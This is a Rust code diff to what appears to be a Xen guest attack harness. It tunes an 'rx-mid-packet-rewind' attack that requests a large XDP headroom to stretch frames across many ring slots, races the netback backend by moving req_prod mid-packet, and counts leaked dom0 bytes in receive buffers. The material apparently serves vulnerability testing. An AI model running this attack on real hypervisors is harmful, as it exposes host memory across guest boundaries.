@@ -10,8 +10,8 @@ use crate::attacks::{probe, record_probe, Report};
 use crate::front::{rx_slot, tx_slot, ConnectTweaks, Frontend, RX_RING, STATE_CLOSED, STATE_CLOSING, TX_RING};
 use crate::Args;
 use netif::wire::{
-    ExtraInfo, RxRequest, RxResponse, TxRequest, NETIF_RSP_OKAY, NETRXF_EXTRA_INFO, NETRXF_MORE_DATA,
-    NETTXF_EXTRA_INFO, NETTXF_MORE_DATA, SRING_REQ_EVENT_OFFSET, SRING_REQ_PROD_OFFSET,
+    ExtraInfo, RxRequest, TxRequest, NETIF_RSP_OKAY, NETTXF_EXTRA_INFO, NETTXF_MORE_DATA, SRING_REQ_EVENT_OFFSET,
+    SRING_REQ_PROD_OFFSET,
 };
 use std::sync::atomic::Ordering;
 use std::thread::sleep;
@@ -22,6 +22,11 @@ pub fn tweaks(attack: &str, t: &mut ConnectTweaks) {
     if attack == "tx-drop-flood" {
         // So that MCAST_ADD/DEL extras are multicast control, as netfront asks for it.
         t.extra_keys.push(("request-multicast-control".into(), "1".into()));
+    }
+    if attack == "rx-mid-packet-rewind" {
+        // netfront writes this key (XDP_PACKET_HEADROOM) when the backend offers
+        // feature-xdp-headroom; a near-page headroom stretches one frame over ~200 slots.
+        t.extra_keys.push(("xdp-headroom".into(), REWIND_HEADROOM.to_string()));
     }
 }
 
@@ -75,12 +80,18 @@ const RX_MARKER: u8 = 0xee;
 /// ethertype 0x88b5, then this byte; see its `raw_sender`).
 const RX_PATTERN: u8 = 0xa5;
 const PAGE: usize = crate::xen_dev::PAGE_SIZE;
-/// Length of dom0's frames (hostile.sh's `REWIND_FRAME_LEN`): five buffers each.
+/// Length of dom0's frames (hostile.sh's `REWIND_FRAME_LEN`).
 const REWIND_FRAME_LEN: usize = 20000;
+/// The XDP headroom this attack asks for: every data slot starts this far into its page, so
+/// a buffer holds 96 bytes and one frame takes 209 data slots and the XDP extra. The
+/// backend walks that many slots (queuing a copy for each) after the guest can see the
+/// first response: a window wide enough for `req_prod` to move while the backend is inside
+/// the packet.
+const REWIND_HEADROOM: usize = 4000;
 
 /// Bytes of buffer `buf` that are neither the marker nor dom0's frame: dom0 memory that
 /// is no packet sent to us. `header` is the frame's Ethernet header (only the first 14
-/// bytes of a buffer can hold it).
+/// bytes after the headroom can hold it).
 /// The first foreign byte seen is kept in `first` as (buffer, offset, value).
 fn foreign_bytes(fe: &Frontend, buf: usize, header: &[u8; 14], first: &mut Option<(usize, usize, u8)>) -> (u32, u32) {
     let bytes = fe.rx_buffer(buf).read_bytes(0, PAGE);
@@ -90,7 +101,8 @@ fn foreign_bytes(fe: &Frontend, buf: usize, header: &[u8; 14], first: &mut Optio
         if *b == RX_MARKER {
             continue;
         }
-        if *b == RX_PATTERN || (j < header.len() && *b == header[j]) {
+        let at_header = j.checked_sub(REWIND_HEADROOM).filter(|k| *k < header.len());
+        if *b == RX_PATTERN || at_header.is_some_and(|k| *b == header[k]) {
             data += 1;
         } else {
             foreign += 1;
@@ -136,11 +148,12 @@ fn rx_mid_packet_rewind(fe: &mut Frontend, a: &Args, r: &mut Report) {
     for buf in 0..RX_RING as usize {
         fe.rx_buffer(buf).write_bytes(0, &[RX_MARKER; PAGE]);
     }
-    // Calibrate: how many buffers does one frame take? REWIND_FRAME_LEN says; post one
-    // more now and then (fewer than two frames' worth) in case the backend wants more, and
-    // count the first frame's responses (dom0 starts sending once the vif is up).
-    let mut posted = (REWIND_FRAME_LEN as u32).div_ceil(PAGE as u32);
-    let max_posted = 2 * posted - 1;
+    // Calibrate: how many buffers does one frame take? The data slots and the XDP extra
+    // say; post one more now and then (fewer than two frames' worth, at most a ring) in case
+    // the backend wants more, and count the first frame's responses (dom0 starts sending
+    // once the vif is up).
+    let mut posted = (REWIND_FRAME_LEN as u32).div_ceil((PAGE - REWIND_HEADROOM) as u32) + 1;
+    let max_posted = (2 * posted - 1).min(RX_RING);
     post_marked(fe, base, base + posted);
     set_rx_req_prod(fe, base + posted);
     fe.notify();
@@ -149,17 +162,10 @@ fn rx_mid_packet_rewind(fe: &mut Frontend, a: &Args, r: &mut Report) {
     let needed = loop {
         let rp = fe.rx_rsp_prod();
         if rp != base {
-            sleep(Duration::from_millis(20));
-            // The first frame ends at its first response without MORE_DATA.
-            let mut n = 0u32;
-            while n < posted {
-                let rsp: RxResponse = fe.rx_ring().read_obj(rx_slot(base + n));
-                n += 1;
-                if rsp.flags & NETRXF_MORE_DATA == 0 && rsp.flags & NETRXF_EXTRA_INFO == 0 {
-                    break;
-                }
-            }
-            base = fe.rx_rsp_prod();
+            // rsp_prod is published at the end of a packet, and fewer than two frames'
+            // worth of buffers are posted: it moved by exactly one frame.
+            let n = rp.wrapping_sub(base);
+            base = rp;
             set_rx_req_prod(fe, base);
             break n;
         }
